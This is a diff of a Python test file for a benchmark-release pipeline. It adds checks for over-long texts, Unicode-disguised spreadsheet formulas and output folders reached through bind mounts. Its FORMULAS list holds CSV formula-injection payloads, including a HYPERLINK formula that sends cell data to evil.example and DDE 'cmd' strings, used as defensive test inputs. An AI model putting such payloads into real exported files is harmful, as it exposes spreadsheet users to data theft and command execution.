@@ -21,10 +21,12 @@ tests/test_hostile_builds.py. The classes and where each is fixed: docs/reliabil
 from __future__ import annotations
 
 import bz2
+import contextlib
 import gzip
 import json
 import os
 import re
+import subprocess
 from dataclasses import dataclass
 from typing import Callable, List, Optional
 
@@ -353,6 +355,9 @@ VALUE_CASES = (
     # a second file's byte order mark after `cat a.jsonl b.jsonl` (was only "not JSON")
     HostileValue("bom-mid-file", lambda r, t, n: b"\xef\xbb\xbf" + _dumps(r), reasons.BAD_ENCODING,
                  "a byte order mark (U+FEFF) at column 1: only a file's first bytes may hold one"),
+    # issue 45: NLVR2 accepted a sentence of 100,000 characters (free_text.MAX_TEXT_CHARS)
+    HostileValue("text-of-100000-characters", lambda r, t, n: _dumps({**r, t: "a dog " * 16_666 + "abcd"}),
+                 reasons.TOO_LONG, "field '{t}' holds 100,000 characters, more than the 16,384 a text may hold"),
 )
 
 
@@ -599,7 +604,22 @@ def test_a_vote_list_held_as_a_string_is_decoded_under_the_same_rules():
 # crowd answer cell is a reject wherever the row comes from (JSON inputs: VALUE_CASES).
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+            # issue 45: BD2BB published these; a spreadsheet reads each as its ASCII form
+            "\uff1dSUM(1)", "\u200b=SUM(1)", "\u2060+1+1", "\ufeff@SUM(1)", "\u00ad-1+1", "\ufe62cmd"]
+FORMULA_IDS = ["equals", "plus", "at", "minus", "tab", "cr", "fullwidth-equals", "zero-width-space",
+               "word-joiner", "byte-order-mark", "soft-hyphen", "small-plus"]
+
+
+def _formula_detail(field: str, text: str) -> str:
+    """What `formula_text` says of `text` (its start as written, and as read when the two
+    differ)."""
+    import unicodedata
+    hidden = len(text) - len(text.lstrip("\u200b\u2060\ufeff\u00ad"))
+    written, read = text[:hidden + 1], unicodedata.normalize("NFKC", text[hidden])
+    reads = "" if written == read else f", which a spreadsheet reads as {read!r}"
+    return (f"field '{field}' begins with {written!r}{reads}: a spreadsheet opening the CSV it is "
+            "published in would run it as a formula")
 
 
 def _retrieve_task_csv(text: str) -> List[str]:
@@ -646,22 +666,22 @@ def _csv_answer_row(cell: str):
             if hasattr(out, "tag") else "passed" for out in check.process(row)]
 
 
-@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "at", "minus", "tab", "cr"])
+@pytest.mark.parametrize("formula", FORMULAS, ids=FORMULA_IDS)
 @pytest.mark.parametrize("where", ["imagecode-retrieve-tasks-csv", "bd2bb-intention", "bd2bb-action",
                                    "bd2bb-review-sheet", "bd2bb-compat-csv"])
 def test_text_a_spreadsheet_would_run_is_neutralised_or_rejected(where, formula):
     """Issue 35: a BD2BB intention `=HYPERLINK(...)` passed every filter into compat/*.csv;
     ImageCoDe descriptions beginning with `=`, `+` or `@` went verbatim into
-    crowd/retrieve_tasks.csv, which requesters open in a spreadsheet."""
+    crowd/retrieve_tasks.csv, which requesters open in a spreadsheet. Issue 45: BD2BB
+    published `＝SUM(1)` (fullwidth) and a zero-width space before `=`: text is judged
+    after NFKC, behind format characters, in every CSV the release writes."""
     if where == "imagecode-retrieve-tasks-csv":   # the JSON Lines file keeps the text
         assert _retrieve_task_csv(formula) == ["'" + formula, formula, "false", '["w1", "w2"]']
         assert _retrieve_task_csv("A dog, left.")[0] == "A dog, left."   # other cells as they were
     elif where in ("bd2bb-intention", "bd2bb-action"):
         field = where.split("-")[1]
         problem = _bd2bb_tuple(field, "  " + formula)   # texts are stripped before publishing
-        assert problem == (reasons.FORMULA_TEXT, f"field '{field}' begins with {formula.strip()[:1]!r}: "
-                           "a spreadsheet opening the CSV it is published in would run it as a "
-                           "formula"), problem
+        assert problem == (reasons.FORMULA_TEXT, _formula_detail(field, formula.strip())), problem
         kept = _bd2bb_tuple(field, "want to relax - and " + formula)   # only a text's start counts
         assert getattr(kept, field) == "want to relax - and " + formula.rstrip("\r"), kept
     elif where == "bd2bb-review-sheet":
@@ -709,14 +729,30 @@ def _folder_inputs():
                 yield benchmark, key, is_list
 
 
-@pytest.mark.parametrize("written", ["--output", "cache.dir", "--output-through-a-symlink"])
+@contextlib.contextmanager
+def _bind_mount(source, target):
+    """`source` mounted again at `target` (a second name of the folder that no path
+    resolution reveals); skips where this machine does not allow mounting."""
+    os.makedirs(target)
+    if subprocess.run(["mount", "--bind", str(source), str(target)], capture_output=True).returncode != 0:
+        pytest.skip("this machine does not allow a bind mount")
+    try:
+        yield str(target)
+    finally:
+        subprocess.run(["umount", str(target)], check=True)
+
+
+@pytest.mark.parametrize("written", ["--output", "cache.dir", "--output-through-a-symlink",
+                                     "--output-through-a-bind-mount", "cache.dir-through-a-bind-mount"])
 @pytest.mark.parametrize("benchmark, key, is_list", [pytest.param(*f, id=f"{f[0]}-{f[1]}")
                                                       for f in _folder_inputs()])
 def test_an_output_or_cache_inside_an_input_folder_is_refused_before_any_work(benchmark, key, is_list,
                                                                                written, tmp_path):
     """Issue 35: an output folder inside FG's pool folder put the previous release's
-    explorer thumbnails into the rebuild's pool (48 -> 57 images). One check for every
-    benchmark (pipelines/preflight.py check_outputs_outside_inputs), paths resolved."""
+    explorer thumbnails into the rebuild's pool (48 -> 57 images). Issue 45: the same
+    folder reached through a bind mount was not caught (symlinks were): folders are now
+    compared by (st_dev, st_ino). One check for every benchmark
+    (pipelines/preflight.py check_outputs_outside_inputs)."""
     from pipelines import preflight
     from pipelines.config import load_config
     from transforms.core.errors import PreflightError
@@ -728,14 +764,40 @@ def test_an_output_or_cache_inside_an_input_folder_is_refused_before_any_work(be
     sets += [s for s in _companions(benchmark, key, str(tmp_path)) if s != "--set"]
     config = load_config(entry.config_path("paper"), sets, entry.config_type)
     beside, inside = str(tmp_path / "releases"), str(folder / "releases")
-    if written == "--output-through-a-symlink":
-        os.symlink(folder, tmp_path / "link")
-        inside = str(tmp_path / "link" / "releases")
-    output, cache = (beside, inside) if written == "cache.dir" else (inside, None)
-    with pytest.raises(PreflightError) as error:
-        preflight.check_outputs_outside_inputs(config, output, cache)
-    assert str(error.value).startswith(f"{written.split('-through')[0]}: {inside} is inside {key} ({folder})")
-    preflight.check_outputs_outside_inputs(config, beside, str(tmp_path / "cache"))   # beside: fine
+    with contextlib.ExitStack() as stack:
+        if written.endswith("-through-a-symlink"):
+            os.symlink(folder, tmp_path / "link")
+            inside = str(tmp_path / "link" / "releases")
+        elif written.endswith("-through-a-bind-mount"):
+            inside = os.path.join(stack.enter_context(_bind_mount(folder, tmp_path / "mnt")), "releases")
+        output, cache = (beside, inside) if written.startswith("cache.dir") else (inside, None)
+        with pytest.raises(PreflightError) as error:
+            preflight.check_outputs_outside_inputs(config, output, cache)
+        assert str(error.value).startswith(f"{written.split('-through')[0]}: {inside} is inside {key} ({folder})")
+        preflight.check_outputs_outside_inputs(config, beside, str(tmp_path / "cache"))   # beside: fine
+
+
+def test_an_output_through_a_bind_mount_of_the_pool_is_refused_before_any_heavy_import(tmp_path):
+    """Issue 45: an FG release written through a bind mount of the pool folder put its 49
+    thumbnails into the pool (the next build kept 57 members instead of 48). The command
+    a user runs stops in one line (exit 2) before Beam, torch or any model library is
+    imported: the check is a few stat calls, made with the other preflight checks."""
+    from tests.test_cli_imports import HEAVY, one_line, run
+    (tmp_path / "in").mkdir()
+    pool = tmp_path / "pool"
+    pool.mkdir()
+    _touch(str(pool), "p.png")
+    with _bind_mount(pool, tmp_path / "mounted") as mounted:
+        out = os.path.join(mounted, "releases")
+        code, lines, imported, _ = run("fg", "build", "--config", "paper", "--set", f"inputs.pool={pool}",
+                                       *_companions("fg", "inputs.pool", str(tmp_path / "in")),
+                                       "--output", out, "--version", "1.0.0")
+        assert one_line(code, lines) == (
+            f"error: --output: {out} is inside inputs.pool ({pool}), which the build reads as a whole: "
+            "a release or cache written there would be read back as input by the next build; write it "
+            "outside every input folder")
+        assert not imported & set(HEAVY), sorted(imported & set(HEAVY))
+        assert os.listdir(pool) == ["p.png"]
 
 
 @pytest.mark.parametrize("pattern, refused", [("**/*.jsonl", True), ("*/lines.jsonl", True),
@@ -898,13 +960,20 @@ def test_nlvr2s_local_similar_checkpoint_is_checked_on_the_driver_under_its_own_
         model_identities(config)
 
 
-@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
-def test_an_answer_cell_over_the_bound_is_a_reject_naming_its_line(fmt, tmp_path):
+@pytest.mark.parametrize("fmt, chars, reason, says", [
+    ("csv", 16_385, reasons.TOO_LONG, "column 'text' holds 16,385 characters, more than the 16,384 a text may hold"),
+    ("jsonl", 16_385, reasons.TOO_LONG, "field 'text' holds 16,385 characters, more than the 16,384 a text may hold"),
+    ("csv", 131_073, reasons.BAD_FIELD, "a cell of more than 131,072 characters"),
+    ("jsonl", 131_073, reasons.TOO_LONG, "field 'text' holds 131,073 characters"),
+])
+def test_an_answer_cell_over_the_bound_is_a_reject_naming_its_line(fmt, chars, reason, says, tmp_path):
     """Issue 35: a cell over 131,072 characters hit Python's csv limit, undocumented
-    (`malformed_row` 'not CSV'); now one bound for both formats, MAX_CELL_CHARS."""
-    from transforms.crowd.answer_files import MAX_CELL_CHARS, AnswerRow, parse_file
+    (`malformed_row` 'not CSV'). Issue 45: every free text, a cell of either format too,
+    is held to free_text.MAX_TEXT_CHARS (too_long); a CSV cell longer than the csv
+    module reads is bad_field."""
+    from transforms.crowd.answer_files import AnswerRow, parse_file
     from transforms.crowd.answer_rows import _CheckRowFn
-    long = "a" * (MAX_CELL_CHARS + 1)
+    long = "a" * chars
     path = tmp_path / f"descriptions.{fmt}"
     if fmt == "csv":
         path.write_text(f"set_name,text,worker\ns1,ok,w1\ns2,{long},w2\n")
@@ -917,8 +986,8 @@ def test_an_answer_cell_over_the_bound_is_a_reject_naming_its_line(fmt, tmp_path
     found = [(getattr(o, "value", o).line, getattr(o, "value", o).reason, getattr(o, "value", o).detail)
              for row in rows if isinstance(row, AnswerRow)
              for o in check.process(row) if getattr(o, "tag", None) == REJECTS]
-    assert len(found) == 1 and found[0][:2] == (2 if fmt == "jsonl" else 3, reasons.BAD_FIELD), found
-    assert f"{MAX_CELL_CHARS:,}" in found[0][2] and "an answer cell may hold" in found[0][2], found
+    assert len(found) == 1 and found[0][:2] == (2 if fmt == "jsonl" else 3, reason), found
+    assert says in found[0][2], found
 
 
 @pytest.mark.parametrize("version", ["01.0.0", "1.0.0+build.5", "1.0.\u0663"])
